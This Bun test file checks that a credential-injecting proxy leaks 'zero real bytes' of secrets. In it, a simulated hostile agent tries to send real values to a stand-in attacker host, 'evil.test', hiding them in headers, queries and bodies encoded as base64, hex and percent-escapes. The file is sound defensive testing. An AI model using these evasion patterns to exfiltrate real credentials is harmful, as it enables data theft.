// The "zero real bytes" proof (issue 4, THREATS 26): one run of a broad matrix — a hostile
// upstream planting every real value in every encoding, content coding, chunking and header,
// and a hostile agent trying every outbound trick towards a bound and an unbound host — with
// every byte the agent side received (raw tunnels and curl: bodies, heads, error output), every
// byte the unbound host received (complete or partial), every audit line and the admin port's
// /metrics collected. The last test asserts none of it holds a real secret in any encoding.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import zlib from "node:zlib";
import { HostileAgent } from "../support/hostile-agent.ts";
import { findLeaks, plantings, REALS, SECRETS } from "../support/hostile-oracle.ts";
import {
  chunk,
  type HostileUpstream,
  headBytes,
  sendChunked,
  sendLength,
  startHostileUpstream,
} from "../support/hostile-upstream.ts";
import { type Harness, startHarness } from "../support/proxy-harness.ts";

let h: Harness;
let bound: HostileUpstream;
let evil: HostileUpstream;
let agent: HostileAgent;
const curlSeen: Buffer[] = [];
let exchanges = 0;

const { alpha, beta, gamma } = SECRETS;
const ALL = [alpha, beta, gamma];

beforeAll(async () => {
  h = await startHarness({
    credentials: ALL.map((s) => ({ ...s, hosts: ["bound.test:*"] })),
    allow: ["bound.test:*", "evil.test:*"],
    names: ["bound.test", "evil.test"],
    env: { SLAPENIR_RATE_LIMIT: "off" },
  });
  const cert = await h.upstreamCa.issue(["bound.test", "evil.test"]);
  bound = await startHostileUpstream(cert);
  evil = await startHostileUpstream(cert);
  agent = new HostileAgent(h);
  // Both upstreams are hostile: they echo the request back and plant every real value.
  for (const up of [bound, evil]) {
    up.on("/", (r, w) =>
      sendLength(w, [["content-type", "text/plain"]], Buffer.concat([r.raw, PLANTED])),
    );
    up.on("/plant/", plantScript);
  }
});

afterAll(async () => {
  await bound?.stop();
  await evil?.stop();
  await h?.close();
});

const PLANTED = Buffer.concat(
  REALS.flatMap((s) => plantings(s).map((p) => Buffer.concat([p.text, Buffer.from("\n")]))),
);

type Coding = [label: string, encode: (b: Buffer) => Buffer];
const CODINGS: Coding[] = [
  ["", (b) => b],
  ["gzip", (b) => zlib.gzipSync(b)],
  ["deflate", (b) => zlib.deflateRawSync(b)],
  ["br", (b) => zlib.brotliCompressSync(b)],
  ["zstd", (b) => zlib.zstdCompressSync(b)],
  ["gzip, br", (b) => zlib.brotliCompressSync(zlib.gzipSync(b))],
];
const PIECES = [0, 7, 61];

/** /plant/<coding>/<pieces>/<framing>: the planted bytes in that coding, chunking and framing. */
async function plantScript(
  r: { target: string },
  w: Parameters<Parameters<HostileUpstream["on"]>[1]>[1],
) {
  const [, , ci, pi, framing] = r.target.split("/");
  const [label, encode] = CODINGS[Number(ci)]!;
  const body = encode(PLANTED);
  const n = PIECES[Number(pi)]!;
  const headers: [string, string][] = [
    ["set-cookie", `a=${alpha.real}`],
    ["x-b64", Buffer.from(beta.real).toString("base64")],
  ];
  if (label) headers.push(["content-encoding", label]);
  if (framing === "length") return sendLength(w, headers, body, n);
  const parts: Buffer[] = [];
  for (let i = 0; i < body.length; i += n || body.length)
    parts.push(body.subarray(i, i + (n || body.length)));
  return sendChunked(w, headers, parts, [["x-t", gamma.real]]);
}

async function rec<T extends { raw?: Buffer }>(p: Promise<T>): Promise<T> {
  const r = await p;
  exchanges++;
  return r;
}

describe("inbound matrix: every planting × coding × chunking × framing, both hosts", () => {
  test("raw agent through tunnels", async () => {
    for (const host of ["bound.test", "evil.test"]) {
      const port = host === "bound.test" ? bound.port : evil.port;
      for (const [ci] of CODINGS.entries()) {
        for (const [pi] of PIECES.entries()) {
          for (const framing of ["length", "chunked"]) {
            const a = await rec(
              agent.request(`${host}:${port}`, "GET", `/plant/${ci}/${pi}/${framing}`),
            );
            expect(a.status).toBe(200);
            expect(a.complete).toBe(true);
          }
        }
      }
    }
  });

  test("curl through the proxy (with and without --compressed)", async () => {
    for (const [ci] of CODINGS.entries()) {
      for (const extra of [[], ["--compressed"]]) {
        const r = await h.curl([
          ...extra,
          `https://bound.test:${bound.port}/plant/${ci}/1/chunked`,
        ]);
        exchanges++;
        curlSeen.push(Buffer.from(r.headers), r.body, Buffer.from(r.stderr));
        expect(r.code).toBe(0);
      }
    }
  });

  test("heads: status line, header names, redirects, interim, trailers, and death mid-secret", async () => {
    bound.on("/heads/", async (r, w) => {
      const k = Number(r.target.split("/")[2]);
      const real = ALL[k % 3]!.real;
      if (k === 0) await w.write(headBytes(103, "Early", [["link", real]]));
      await w.write(
        headBytes(k % 2 ? 302 : 200, `R ${real}`, [
          ["location", `https://x.test/?a=${encodeURIComponent(real)}`],
          [ALL[0]!.real, "header-name"],
          ["www-authenticate", `Basic realm="${Buffer.from(real).toString("hex")}"`],
          ["transfer-encoding", "chunked"],
        ]),
      );
      await w.write(chunk(`x${real.slice(0, k + 3)}`));
      if (k === 4) {
        w.destroy();
        return;
      }
      await w.write(chunk(`${real.slice(k + 3)}y`));
      await w.write(`0\r\nx-trail: ${real}\r\n\r\n`);
    });
    for (let k = 0; k < 6; k++) {
      const a = await rec(agent.request(`bound.test:${bound.port}`, "GET", `/heads/${k}`));
      expect(a.status === 0 || a.status >= 200).toBe(true);
    }
  });
});

describe("outbound matrix: the agent tries to get real values out", () => {
  const pct = (s: string) =>
    Array.from(s, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
  test("dummies in every carrier to the unbound host arrive as dummies", async () => {
    for (const s of ALL) {
      const d = s.dummy;
      const tries: [string, [string, string][], string | undefined][] = [
        [`/?k=${d}`, [], undefined],
        [`/?k=${pct(d)}`, [], undefined],
        ["/", [["authorization", `Bearer ${d}`]], undefined],
        ["/", [["authorization", `Basic ${Buffer.from(`u:${d}`).toString("base64")}`]], undefined],
        ["/", [["content-type", "application/json"]], JSON.stringify({ d })],
        ["/", [], `k=${encodeURIComponent(d)}`],
        ["/", [], Buffer.from(d).toString("hex")],
      ];
      for (const [path, headers, body] of tries) {
        const a = await rec(agent.request(`evil.test:${evil.port}`, "POST", path, headers, body));
        expect(a.status).toBe(200);
      }
    }
  });

  test("real values in every encoding and place, to both hosts, are blocked", async () => {
    for (const host of ["bound.test", "evil.test"]) {
      const port = host === "bound.test" ? bound.port : evil.port;
      for (const real of REALS) {
        for (const p of plantings(real)) {
          const enc = p.text.toString("latin1");
          // A field value cannot hold a line break (the rest would be a new request, refused
          // as malformed); such spellings travel in the query and the body.
          if (!/[\r\n]/.test(enc)) {
            const inHeader = await rec(
              agent.request(`${host}:${port}`, "GET", "/", [["x-data", enc]]),
            );
            expect(inHeader.status).toBe(403);
          }
          const inQuery = await rec(
            agent.request(`${host}:${port}`, "GET", `/?q=${encodeURIComponent(enc)}`),
          );
          const inBody = await rec(agent.request(`${host}:${port}`, "POST", "/", [], `..${enc}..`));
          expect(inQuery.status).toBe(403);
          expect(inBody.status === 403 || !inBody.complete).toBe(true);
        }
      }
    }
  });
});

describe("zero real bytes", () => {
  test("the matrix ran (exchanges counted, redactions recorded)", async () => {
    expect(exchanges).toBeGreaterThan(400);
    const metrics = await (await fetch(`http://127.0.0.1:${h.proxy.adminPort}/metrics`)).text();
    expect(metrics).toMatch(/slapenir_redactions_total\{agent="agent-a"\} [1-9]/);
  });

  test("the agent side received no real value in any encoding", () => {
    expect(findLeaks(agent.allSeen())).toEqual([]);
    expect(findLeaks(Buffer.concat(curlSeen))).toEqual([]);
    // Sanity: the oracle does see a planted value when one is there.
    expect(findLeaks(PLANTED).length).toBeGreaterThan(0);
  });

  test("the unbound host never received a real value (complete or partial requests)", () => {
    expect(evil.received.length).toBeGreaterThan(20);
    expect(findLeaks(evil.allBytes())).toEqual([]);
  });

  test("the bound host received real values only where the agent sent a dummy", () => {
    // Blocked (DLP) requests never reached it complete; partial bodies carry no real value.
    const complete = bound.received.filter((r) => r.method === "POST");
    expect(complete.length).toBe(0);
  });

  test("no audit line, metric or error text carries a real value", async () => {
    const metrics = await (await fetch(`http://127.0.0.1:${h.proxy.adminPort}/metrics`)).text();
    const status = await (await fetch(`http://127.0.0.1:${h.proxy.adminPort}/status`)).text();
    await h.settled();
    expect(h.auditLines.length).toBeGreaterThan(exchanges);
    expect(findLeaks(h.auditLines.join("\n"))).toEqual([]);
    expect(findLeaks(metrics)).toEqual([]);
    expect(findLeaks(status)).toEqual([]);
  });
});
